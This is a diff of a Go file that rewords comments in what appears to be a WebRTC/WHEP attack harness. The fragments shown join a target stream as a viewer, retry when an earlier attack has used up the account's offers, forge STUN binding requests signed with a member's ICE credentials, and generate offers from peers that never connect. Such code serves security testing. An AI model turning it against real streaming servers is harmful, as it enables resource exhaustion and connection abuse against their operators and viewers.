@@ -12,16 +12,16 @@ import (
 	"github.com/pion/webrtc/v4"
 )
 
-// member is a connection that the attacker's account may have.
+// member is a connection that the attacker's account is allowed to have.
 type member struct {
 	peer    *webrtc.PeerConnection
 	session session.Session
 	ssrc    uint32
-	// Where the house takes media, and what signs requests to it.
+	// The server's media address, and the credentials that sign requests to it.
 	server, username, password string
 }
 
-// join watches as anybody would, and waits for the picture.
+// join watches like any viewer and waits for video.
 func (t *target) join() (*member, error) {
 	peer, err := newViewer()
 	if err != nil {
@@ -41,7 +41,7 @@ func (t *target) join() (*member, error) {
 	})
 	access := session.Access{Cookie: t.Cookie}
 	m.session, err = session.Negotiate(context.Background(), peer, t.Whep, access)
-	// The attack before this one may have used up the offers of the account.
+	// The previous attack may have used up the account's offers.
 	for range 5 {
 		if err == nil || !strings.HasPrefix(err.Error(), "429") {
 			break
@@ -68,7 +68,7 @@ func (t *target) join() (*member, error) {
 	return m, nil
 }
 
-// check is a request as the member's own agent makes it.
+// check is a STUN request like those of the member's own ICE agent.
 func (m *member) check() []byte {
 	message, err := stun.Build(stun.TransactionID, stun.BindingRequest, stun.NewUsername(m.username),
 		priority(1853824767), controlling(7), stun.NewShortTermIntegrity(m.password), stun.Fingerprint)
@@ -106,7 +106,7 @@ func newViewer() (*webrtc.PeerConnection, error) {
 	return peer, nil
 }
 
-// offerText is an offer that nobody stands behind.
+// offerText is the offer of a peer that never connects.
 func offerText() (string, error) {
 	peer, err := newViewer()
 	if err != nil {
@@ -117,7 +117,7 @@ func offerText() (string, error) {
 	return offer.SDP, err
 }
 
-// line is what follows the first such start of a line.
+// line returns the rest of the first line that begins with start.
 func line(sdp, start string) string {
 	_, rest, _ := strings.Cut(sdp, start)
 	value, _, _ := strings.Cut(rest, "\r\n")
